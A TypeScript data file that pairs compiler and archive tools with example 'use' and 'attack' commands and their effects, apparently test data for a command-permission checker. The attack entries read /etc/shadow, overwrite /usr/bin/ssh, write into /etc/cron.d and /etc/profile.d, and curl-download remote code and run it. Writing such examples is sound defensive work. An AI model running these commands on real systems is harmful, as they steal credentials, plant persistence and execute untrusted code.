import type { ExampleTable } from './example.ts'

/** Compilers of smaller languages, what runs their products, and programs that unpack. */
export const smallerCompilers: ExampleTable = {
  antlr4: {
    use: 'antlr4 App.g4 → read App.g4',
    attack: 'antlr4 /etc/shadow → read /etc/shadow',
  },
  'arc e': {
    use: 'arc e app.arc → read app.arc; unpack .',
    attack: 'cd /etc/cron.d && arc e app.arc → read /etc/cron.d/app.arc; unpack /etc/cron.d/.',
  },
  'arc x': {
    use: 'arc x app.arc → read app.arc; unpack .',
    attack: 'cd /etc/cron.d && arc x app.arc → read /etc/cron.d/app.arc; unpack /etc/cron.d/.',
  },
  chicken: {
    use: 'chicken -output-file app.c app.scm → read app.scm; write app.c',
    attack: 'chicken -output-file /usr/bin/ssh app.scm → read app.scm; write /usr/bin/ssh',
  },
  'codon build': {
    use: 'codon build -o app app.py → read app.py; write app',
    attack: 'codon build -o /usr/bin/ssh app.py → read app.py; write /usr/bin/ssh',
  },
  'codon run': {
    use: 'codon run app.py → read app.py',
    attack:
      'curl -so app.py https://example.org/x && codon run app.py → execute ‹https://example.org/x›',
  },
  csc: {
    use: 'csc app.scm → read app.scm; write app; write app.exe',
    attack: 'csc -o /usr/bin/ssh app.scm → read app.scm; write /usr/bin/ssh',
  },
  ctangle: {
    use: 'ctangle app.w → read app.w; write app.c',
    attack: 'ctangle /etc/shadow → read /etc/shadow',
  },
  dart2js: {
    use: 'dart2js -o app.js app.dart → read app.dart; write app.js',
    attack: 'dart2js -o /usr/bin/ssh app.dart → read app.dart; write /usr/bin/ssh',
  },
  diet: {
    use: 'diet gcc app.c → read app.c; write a.out',
    attack: 'diet gcc -o /usr/bin/ssh app.c → read app.c; write /usr/bin/ssh',
  },
  ecj: {
    use: 'ecj -d out App.java → read App.java; write out/App.class',
    attack: 'ecj -d /etc/cron.d App.java → read App.java; write /etc/cron.d/App.class',
  },
  freewrap: {
    use: 'freewrap app.tcl → read app.tcl; write app',
    attack: 'freewrap -o /usr/bin/ssh app.tcl → read app.tcl; write /usr/bin/ssh',
  },
  gec: {
    use: 'gec app.e → read app.e; write app',
    attack: 'gec -o /usr/bin/ssh app.e → read app.e; write /usr/bin/ssh',
  },
  'gem unpack': {
    use: 'gem unpack app.gem → read app.gem; unpack .',
    attack: 'gem unpack app.gem --target /etc/cron.d → unpack /etc/cron.d; read app.gem',
  },
  gnatbind: {
    use: 'gnatbind -o b.adb app → write b.adb',
    attack: 'gnatbind -o /etc/cron.d/x app → write /etc/cron.d/x',
  },
  gnatlink: {
    use: 'gnatlink app → write app',
    attack: 'gnatlink -o /usr/bin/ssh app → write /usr/bin/ssh',
  },
  'google-closure-compiler': {
    use: 'google-closure-compiler --js app.js --js_output_file out.js → read app.js; write out.js',
    attack:
      'google-closure-compiler --js app.js --js_output_file /usr/bin/ssh → read app.js; write /usr/bin/ssh',
  },
  'guild compile': {
    use: 'guild compile -o app.go app.scm → read app.scm; write app.go',
    attack: 'guild compile -o /usr/bin/ssh app.scm → read app.scm; write /usr/bin/ssh',
  },
  ilasm: {
    use: 'ilasm app.il → read app.il; write app.exe',
    attack: 'ilasm -output /usr/bin/ssh app.il → read app.il; write /usr/bin/ssh',
  },
  iwasm: {
    use: 'iwasm app.wasm → read app.wasm',
    attack:
      'curl -so app.wasm https://example.org/x && iwasm app.wasm → execute ‹https://example.org/x›',
  },
  jasmin: {
    use: 'jasmin App.j → read App.j; write App.class',
    attack: 'jasmin /etc/shadow → read /etc/shadow',
  },
  javacc: {
    use: 'javacc app.jj → read app.jj',
    attack: 'javacc /etc/shadow → read /etc/shadow',
  },
  'javy build': {
    use: 'javy build -o app.wasm app.js → read app.js; write app.wasm',
    attack: 'javy build -o /usr/bin/ssh app.js → read app.js; write /usr/bin/ssh',
  },
  jrubyc: {
    use: 'jrubyc app.rb → read app.rb; write app.class',
    attack: 'jrubyc /etc/shadow → read /etc/shadow',
  },
  konanc: {
    use: 'konanc app.kt → read app.kt; write program.kexe',
    attack: 'konanc -o /usr/bin/ssh app.kt → read app.kt; write /usr/bin/ssh.kexe',
  },
  'kotlinc-js': {
    use: 'kotlinc-js -output app.js app.kt → read app.kt; write app.js',
    attack: 'kotlinc-js -output /usr/bin/ssh app.kt → read app.kt; write /usr/bin/ssh',
  },
  libtool: {
    use: 'libtool --mode=link gcc -o app app.o → read app.o; write app',
    attack: 'libtool --mode=link gcc -o /usr/bin/ssh app.o → read app.o; write /usr/bin/ssh',
  },
  lrztar: {
    use: 'lrztar -d app.tar.lrz → read app.tar.lrz; unpack .',
    attack:
      'cd /etc/cron.d && lrztar -d app.tar.lrz → read /etc/cron.d/app.tar.lrz; unpack /etc/cron.d/.',
  },
  lrzuntar: {
    use: 'lrzuntar app.tar.lrz → read app.tar.lrz; unpack .',
    attack: 'lrzuntar -O /etc/cron.d app.tar.lrz → unpack /etc/cron.d; read app.tar.lrz',
  },
  luastatic: {
    use: 'luastatic app.lua → read app.lua; write app',
    attack: 'luastatic /etc/shadow → read /etc/shadow',
  },
  mojo: {
    use: 'mojo app.mojo → read app.mojo',
    attack:
      'curl -so app.mojo https://example.org/x && mojo app.mojo → execute ‹https://example.org/x›',
  },
  'mojo build': {
    use: 'mojo build -o app app.mojo → read app.mojo; write app',
    attack: 'mojo build -o /usr/bin/ssh app.mojo → read app.mojo; write /usr/bin/ssh',
  },
  'mojo run': {
    use: 'mojo run app.mojo → read app.mojo',
    attack:
      'curl -so app.mojo https://example.org/x && mojo run app.mojo → execute ‹https://example.org/x›',
  },
  moonc: {
    use: 'moonc app.moon → read app.moon; write app.lua',
    attack: 'moonc -o /etc/profile.d/x.sh app.moon → read app.moon; write /etc/profile.d/x.sh',
  },
  mosmlc: {
    use: 'mosmlc -o app app.sml → read app.sml; write app',
    attack: 'mosmlc -o /usr/bin/ssh app.sml → read app.sml; write /usr/bin/ssh',
  },
  'native-image': {
    use: 'native-image Main → write main',
    attack: 'native-image -o /usr/bin/ssh Main → write /usr/bin/ssh',
  },
  neko: {
    use: 'neko app.n → read app.n',
    attack: 'curl -so app.n https://example.org/x && neko app.n → execute ‹https://example.org/x›',
  },
  nexe: {
    use: 'nexe app.js -o app → read app.js; write app',
    attack: 'nexe app.js -o /usr/bin/ssh → read app.js; write /usr/bin/ssh',
  },
  ponyc: {
    use: 'ponyc -b app . → write app',
    attack: 'ponyc -b /usr/bin/ssh . → write /usr/bin/ssh',
  },
  qjsc: {
    use: 'qjsc -o app app.js → read app.js; write app',
    attack: 'qjsc -o /usr/bin/ssh app.js → read app.js; write /usr/bin/ssh',
  },
  ragel: {
    use: 'ragel app.rl → read app.rl; write app.c',
    attack: 'ragel -o /usr/bin/ssh app.rl → read app.rl; write /usr/bin/ssh',
  },
  re2c: {
    use: 're2c -o app.c app.re → read app.re; write app.c',
    attack: 're2c -o /usr/bin/ssh app.re → read app.re; write /usr/bin/ssh',
  },
  ring: {
    use: 'ring app.ring → read app.ring',
    attack:
      'curl -so app.ring https://example.org/x && ring app.ring → execute ‹https://example.org/x›',
  },
  shedskin: {
    use: 'shedskin app.py → read app.py; write app',
    attack: 'shedskin /etc/shadow → read /etc/shadow',
  },
  snunzip: {
    use: 'snunzip app.sz → read app.sz; write app',
    attack: 'cd /etc/cron.d && snunzip app.sz → read /etc/cron.d/app.sz; write /etc/cron.d/app',
  },
  stalin: {
    use: 'stalin app.scm → read app.scm; write app',
    attack: 'stalin /etc/shadow → read /etc/shadow',
  },
  star: {
    use: 'star -xf app.tar → read app.tar; unpack .',
    attack: 'cd /etc/cron.d && star -xf app.tar → read /etc/cron.d/app.tar; unpack /etc/cron.d/.',
  },
  'tl gen': {
    use: 'tl gen app.tl → read app.tl; write app.lua',
    attack: 'tl gen -o /etc/profile.d/x.sh app.tl → read app.tl; write /etc/profile.d/x.sh',
  },
  'tl run': {
    use: 'tl run app.tl → read app.tl',
    attack:
      'curl -so app.tl https://example.org/x && tl run app.tl → execute ‹https://example.org/x›',
  },
  uasm: {
    use: 'uasm -elf64 app.asm → read app.asm; write app.o',
    attack: 'uasm /etc/shadow → read /etc/shadow',
  },
  unbrotli: {
    use: 'unbrotli app.br → read app.br; write app',
    attack: 'unbrotli -o /usr/bin/ssh app.br → read app.br; write /usr/bin/ssh',
  },
  wamrc: {
    use: 'wamrc -o app.aot app.wasm → read app.wasm; write app.aot',
    attack: 'wamrc -o /usr/bin/ssh app.wasm → read app.wasm; write /usr/bin/ssh',
  },
  'wasm-interp': {
    use: 'wasm-interp app.wasm → read app.wasm',
    attack:
      'curl -so app.wasm https://example.org/x && wasm-interp app.wasm → execute ‹https://example.org/x›',
  },
  wasm2c: {
    use: 'wasm2c app.wasm -o app.c → read app.wasm; write app.c',
    attack: 'wasm2c app.wasm -o /usr/bin/ssh → read app.wasm; write /usr/bin/ssh',
  },
  'wasmedge run': {
    use: 'wasmedge run app.wasm → read app.wasm',
    attack:
      'curl -so app.wasm https://example.org/x && wasmedge run app.wasm → execute ‹https://example.org/x›',
  },
  wasmedgec: {
    use: 'wasmedgec app.wasm app.so → read app.wasm; write app.so',
    attack: 'wasmedgec app.wasm /usr/bin/ssh → read app.wasm; write /usr/bin/ssh',
  },
  'wasmer compile': {
    use: 'wasmer compile app.wasm -o app.wasmu → read app.wasm; write app.wasmu',
    attack: 'wasmer compile app.wasm -o /usr/bin/ssh → read app.wasm; write /usr/bin/ssh',
  },
  'wasmer create-exe': {
    use: 'wasmer create-exe app.wasm -o app → read app.wasm; write app',
    attack: 'wasmer create-exe app.wasm -o /usr/bin/ssh → read app.wasm; write /usr/bin/ssh',
  },
  'wasmtime compile': {
    use: 'wasmtime compile app.wasm → read app.wasm; write app.cwasm',
    attack: 'wasmtime compile app.wasm -o /usr/bin/ssh → read app.wasm; write /usr/bin/ssh',
  },
  xar: {
    use: 'xar -xf app.xar -C out → read app.xar; unpack out',
    attack: 'xar -xf app.xar -C /etc/cron.d → read app.xar; unpack /etc/cron.d',
  },
  xarchiver: {
    use: 'xarchiver -x out app.tar → unpack out; read app.tar',
    attack: 'xarchiver -x /etc/cron.d app.tar → unpack /etc/cron.d; read app.tar',
  },
  'zoo e': {
    use: 'zoo e app.zoo → read app.zoo; unpack .',
    attack: 'cd /etc/cron.d && zoo e app.zoo → read /etc/cron.d/app.zoo; unpack /etc/cron.d/.',
  },
  'zoo x': {
    use: 'zoo x app.zoo → read app.zoo; unpack .',
    attack: 'cd /etc/cron.d && zoo x app.zoo → read /etc/cron.d/app.zoo; unpack /etc/cron.d/.',
  },
  lzip: {
    use: 'lzip -dk app.lz → read app.lz; write app',
    attack: 'lzip -d -o /usr/bin/ssh app.lz → read app.lz; write /usr/bin/ssh',
  },
  lzop: {
    use: 'lzop -dk app.lzo → read app.lzo; write app',
    attack: 'lzop -d -o /usr/bin/ssh app.lzo → read app.lzo; write /usr/bin/ssh',
  },
  'scala-cli': {
    use: 'scala-cli app.scala → read app.scala',
    attack: 'scala-cli https://203.0.113.7/x.scala → execute ‹https://203.0.113.7/x.scala›',
  },
  'scala-cli doc': {
    use: 'scala-cli doc app.scala -o api → unpack api',
    attack: 'scala-cli doc app.scala -o /etc → unpack /etc',
  },
  'scala-cli export': {
    use: 'scala-cli export app.scala -o build → unpack build',
    attack: 'scala-cli export app.scala -o /etc → unpack /etc',
  },
  'scala-cli package': {
    use: 'scala-cli package app.scala -o app → read app.scala; write app',
    attack: 'scala-cli package app.scala -o /usr/bin/ssh → read app.scala; write /usr/bin/ssh',
  },
  'deno bundle': {
    use: 'deno bundle app.ts app.js → read app.ts; write app.js',
    attack: 'deno bundle app.ts -o /usr/bin/ssh → read app.ts; write /usr/bin/ssh',
  },
}
